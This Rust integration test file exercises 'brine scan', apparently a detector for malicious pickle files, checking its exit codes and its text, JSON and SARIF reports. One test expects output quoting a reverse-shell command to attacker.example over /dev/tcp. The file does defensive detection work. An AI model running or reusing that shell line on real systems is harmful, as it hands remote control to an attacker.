//! `brine scan`, run as a user runs it: exit statuses, the text, JSON and SARIF reports.

use std::process::{Command, Output};

fn brine(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_brine"))
        .args(args)
        .output()
        .expect("brine runs")
}

fn corpus(path: &str) -> String {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/scan")
        .join(path)
        .to_string_lossy()
        .into_owned()
}

#[test]
fn the_remote_shell_is_dangerous_and_shows_its_command() {
    let out = brine(&["scan", &corpus("hostile/remote_shell.pickle")]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).expect("utf-8");
    assert!(
        text.contains(
            "dangerous: posix.system('/bin/sh -i >& /dev/tcp/attacker.example/4444 0>&1')"
        ),
        "{text}"
    );
}

#[test]
fn exit_statuses() {
    let safe = corpus("benign/plain_dict.p4.pickle");
    let suspicious = corpus("benign/user_class.p4.pickle");
    let inconclusive = corpus("hostile/archive.7z");
    let dangerous = corpus("hostile/popped_reduce.pickle");
    assert_eq!(brine(&["scan", &safe]).status.code(), Some(0));
    assert_eq!(brine(&["scan", &suspicious]).status.code(), Some(0));
    assert_eq!(
        brine(&["scan", "--strict", &suspicious]).status.code(),
        Some(1)
    );
    assert_eq!(
        brine(&["scan", "--strict", "--allow", "__main__.*", &suspicious])
            .status
            .code(),
        Some(0)
    );
    assert_eq!(brine(&["scan", &inconclusive]).status.code(), Some(2));
    assert_eq!(
        brine(&["scan", &safe, &inconclusive, &dangerous])
            .status
            .code(),
        Some(1)
    );
    assert_eq!(
        brine(&["scan", "/nonexistent/brine"]).status.code(),
        Some(2)
    );
}

#[test]
fn json_report_of_a_directory() {
    let out = brine(&["scan", "--format", "json", &corpus("hostile")]);
    assert_eq!(out.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report["version"], 1);
    let files = report["files"].as_array().expect("files");
    assert!(files.len() > 100);
    let shell = files
        .iter()
        .find(|file| {
            file["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("remote_shell.pickle"))
        })
        .expect("the remote shell");
    assert_eq!(shell["verdict"], "dangerous");
    let finding = &shell["members"][0]["pickles"][0]["findings"][0];
    assert_eq!(finding["global"], "posix.system");
    assert_eq!(finding["verdict"], "dangerous");
}

#[test]
fn sarif_report() {
    let out = brine(&[
        "scan",
        "--format",
        "sarif",
        &corpus("hostile/os_system.p0.pickle"),
    ]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(report["version"], "2.1.0");
    let result = &report["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "dangerous");
    assert_eq!(result["level"], "error");
    assert_eq!(
        result["locations"][0]["physicalLocation"]["region"]["byteOffset"],
        25
    );
}
